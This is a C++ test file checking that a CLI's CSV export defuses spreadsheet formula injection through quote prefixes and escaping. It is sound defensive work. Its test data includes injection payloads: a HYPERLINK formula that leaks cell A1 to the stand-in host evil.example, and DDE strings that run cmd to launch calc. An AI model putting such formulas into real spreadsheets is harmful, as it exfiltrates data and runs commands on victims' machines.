// `winnow export --format csv` of keys, labels and sources that a spreadsheet
// would run as formulas (CSV injection): the real CLI on a real database.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "support/cli_process.h"
#include "support/temp_dir.h"

namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using winnow::test::CliProcess;

// RFC 4180: fields separated by commas, rows by \n, "quoted" fields may hold
// commas, newlines, CRs and "" for a quote.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"' && field.empty()) {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
    } else {
      field += c;
    }
  }
  if (rows.back().empty() && field.empty()) rows.pop_back();
  return rows;
}

struct Sample {
  std::string key, label, source;
};

}  // namespace

TEST_CASE(
    "export csv: formula-leading cells get a quote prefix while numbers and quoting stay right",
    "[export][csv]") {
  winnow::test::TempDir dir;
  const std::string db = dir.file("text.db");
  CliProcess init(dir.path(), {"init", "--db", db, "--embedder", "hashed-ngrams(n=3,dim=64)"},
                  "init");
  REQUIRE(init.wait() == 0);
  const std::vector<Sample> samples = {
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "cat", "vendor"},
      {"+SUM(1,2)", "=1+1", "vendor"},
      {"-2+3+cmd|' /C calc'!A0", "-1", "=cmd|' /C calc'!A0"},
      {"@SUM(A1:A9)", "+1", "@vendor"},
      {"\tTAB-led", "-1.5e3", "vendor"},
      {"\rCR-led", "-", "vendor"},
      {"plain, with \"quotes\"", "dog", "vendor, inc"},
      {"-1", "-0x1", "vendor"},
      {"'already-quoted", "+", "vendor"},
      {"rtl\u202Eevil", "cat", "ann\u200B"},  // a right-to-left override, a zero-width space
  };
  std::map<std::string, std::pair<std::string, std::string>> expected = {
      // key as exported -> {label, source} as exported
      {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", {"cat", "vendor"}},
      {"'+SUM(1,2)", {"'=1+1", "vendor"}},
      {"'-2+3+cmd|' /C calc'!A0", {"-1", "'=cmd|' /C calc'!A0"}},
      {"'@SUM(A1:A9)", {"+1", "'@vendor"}},
      // A leading tab or CR is shown escaped, so it cannot start a formula.
      {"\\x09TAB-led", {"-1.5e3", "vendor"}},
      {"\\x0dCR-led", {"'-", "vendor"}},
      {"plain, with \"quotes\"", {"dog", "vendor, inc"}},
      {"-1", {"'-0x1", "vendor"}},
      {"'already-quoted", {"'+", "vendor"}},
      {"rtl\\u{202E}evil", {"cat", "ann\\u{200B}"}},
  };
  {
    std::ofstream m(dir.file("m.jsonl"));
    int i = 0;
    for (const Sample& s : samples) {
      // Texts far apart, so that every sample is accepted.
      m << json{{"key", s.key},
                {"text", "sample number " + std::to_string(i) + " " + std::string(i + 1, 'q') +
                             std::to_string(i * 7919)},
                {"label", s.label},
                {"source", s.source}}
               .dump()
        << "\n";
      ++i;
    }
  }
  CliProcess ingest(dir.path(), {"ingest", "--db", db, dir.file("m.jsonl")}, "ingest");
  REQUIRE(ingest.wait() == 0);

  CliProcess csv(dir.path(), {"export", "--db", db, "--format", "csv"}, "csv");
  REQUIRE(csv.wait() == 0);
  const auto rows = parse_csv(csv.out());
  REQUIRE(rows.size() == samples.size() + 1);
  // 19 columns, then the 10 image-quality ones (empty for these text samples).
  REQUIRE(rows[0].size() == 29);
  CHECK(rows[0][1] == "key");
  CHECK(rows[0][12] == "reason");
  CHECK(rows[0][19] == "image_width");
  std::map<std::string, std::pair<std::string, std::string>> got;
  for (std::size_t r = 1; r < rows.size(); ++r) {
    REQUIRE(rows[r].size() == 29);  // quoting kept every cell in its column
    CHECK(rows[r][19].empty());
    CHECK(!rows[r][12].empty());  // every sample has the reason for its status
    got[rows[r][1]] = {rows[r][3], rows[r][4]};
    // Columns the store writes (not user text) are never prefixed.
    CHECK(rows[r][5] == "accepted");
  }
  for (const auto& [key, cells] : expected) {
    INFO("key as exported: " << key);
    REQUIRE(got.count(key) == 1);
    CHECK(got[key].first == cells.first);    // label
    CHECK(got[key].second == cells.second);  // source
  }

  // JSONL keeps the values exactly as ingested.
  CliProcess jsonl(dir.path(), {"export", "--db", db}, "jsonl");
  REQUIRE(jsonl.wait() == 0);
  std::map<std::string, std::string> labels;
  std::istringstream lines(jsonl.out());
  for (std::string line; std::getline(lines, line);) {
    const json j = json::parse(line);
    labels[j["key"]] = j["label"];
  }
  REQUIRE(labels.size() == samples.size());
  for (const Sample& s : samples) CHECK(labels[s.key] == s.label);
}
